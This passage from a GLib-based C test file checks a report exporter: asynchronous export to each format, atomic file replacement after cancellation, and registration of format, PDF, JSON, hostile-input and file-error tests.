test_async (void)
{
  g_autoptr(DscReport) report = load_report ("sync-errors");
  g_autofree char *dir = make_tmpdir ();
  GError *result = NULL;

  for (guint f = 0; f < DSC_EXPORT_N_FORMATS; f++)
    {
      g_autofree char *name = g_strdup_printf ("report.%s", dsc_export_format_get_extension (f));
      g_autofree char *path = g_build_filename (dir, name, NULL);
      dsc_autofinalize(GFile) file = g_file_new_for_path (path);
      g_autoptr(GFileInfo) info = NULL;

      dsc_export_report_async (report, f, file, NULL, export_done, &result);
      while (result == NULL)
        g_main_context_iteration (NULL, TRUE);
      g_assert_cmpstr (result->message, ==, "ok");
      g_clear_error (&result);
      info = g_file_query_info (file, G_FILE_ATTRIBUTE_STANDARD_SIZE, 0, NULL, NULL);
      g_assert_nonnull (info);
      g_assert_cmpint (g_file_info_get_size (info), >, 100);
    }
  g_assert_cmpuint (count_entries (dir), ==, DSC_EXPORT_N_FORMATS);
  remove_tree (dir);
}

static void
test_file_replaces_atomically (void)
{
  g_autoptr(DscReport) report = load_report ("sync-errors");
  g_autoptr(DscReport) big = make_hostile_report (20000);
  g_autofree char *dir = make_tmpdir ();
  g_autofree char *path = g_build_filename (dir, "report.pdf", NULL);
  dsc_autofinalize(GFile) file = g_file_new_for_path (path);
  dsc_autofinalize(GCancellable) cancellable = g_cancellable_new ();
  g_autoptr(GError) error = NULL;
  g_autofree char *contents = NULL;
  GError *result = NULL;

  g_file_set_contents (path, "old report", -1, &error);
  g_assert_no_error (error);

  /* Cancelled part way — once the temporary file exists — the old file
   * stays and the temporary goes. */
  dsc_export_report_async (big, DSC_EXPORT_FORMAT_PDF, file, cancellable, export_done,
                           &result);
  while (count_entries (dir) < 2 && result == NULL)
    g_usleep (1000);
  g_cancellable_cancel (cancellable);
  while (result == NULL)
    g_main_context_iteration (NULL, TRUE);
  g_assert_error (result, G_IO_ERROR, G_IO_ERROR_CANCELLED);
  g_clear_error (&result);
  g_file_get_contents (path, &contents, NULL, &error);
  g_assert_no_error (error);
  g_assert_cmpstr (contents, ==, "old report");
  g_assert_cmpuint (count_entries (dir), ==, 1);
  g_clear_pointer (&contents, g_free);

  g_assert_true (dsc_export_to_file (report, DSC_EXPORT_FORMAT_CSV, file, NULL, &error));
  g_assert_no_error (error);
  g_file_get_contents (path, &contents, NULL, &error);
  g_assert_true (g_str_has_prefix (contents, "\xef\xbb\xbf" "category,"));
  g_assert_cmpuint (count_entries (dir), ==, 1);
  remove_tree (dir);
}

int
main (int argc, char **argv)
{
  g_test_init (&argc, &argv, NULL);
  /* The PDF writer linked in, not the module (tests/cli load the module). */
  dsc_export_use_pdf_writer (dsc_pdf_module_write);

  g_test_add_func ("/core/export/format-names", test_format_names);
  for (guint i = 0; i < G_N_ELEMENTS (scenarios); i++)
    {
      g_autofree char *golden = g_strdup_printf ("/core/export/golden/%s", scenarios[i]);
      g_autofree char *pdf = g_strdup_printf ("/core/export/pdf-text/%s", scenarios[i]);

      g_test_add_data_func (golden, scenarios[i], test_golden);
      g_test_add_data_func (pdf, scenarios[i], test_pdf_text);
    }
  g_test_add_func ("/core/export/pdf-paginates-with-repeated-header", test_pdf_paginates);
  g_test_add_func ("/core/export/hostile/csv", test_hostile_csv);
  g_test_add_func ("/core/export/hostile/html", test_hostile_html);
  g_test_add_func ("/core/export/hostile/json", test_hostile_json);
  g_test_add_func ("/core/export/hostile/prometheus", test_hostile_prometheus);
  g_test_add_func ("/core/export/hostile/pdf", test_hostile_pdf);
  g_test_add_func ("/core/export/pdf-ascii-cells", test_pdf_ascii_cells);
  g_test_add_func ("/core/export/json-matches-schema", test_json_schema);
  g_test_add_func ("/core/export/json-as-json-glib-writes-it", test_json_as_generator);
  g_test_add_func ("/core/export/json-escapes-unit-separator", test_json_escapes_unit_separator);
  g_test_add_func ("/core/export/file/replaces-atomically", test_file_replaces_atomically);
  g_test_add_func ("/core/export/file/unwritable", test_file_unwritable);
  g_test_add_func ("/core/export/file/disk-full", test_disk_full);
  g_test_add_func ("/core/export/async", test_async);
  return g_test_run ();
}
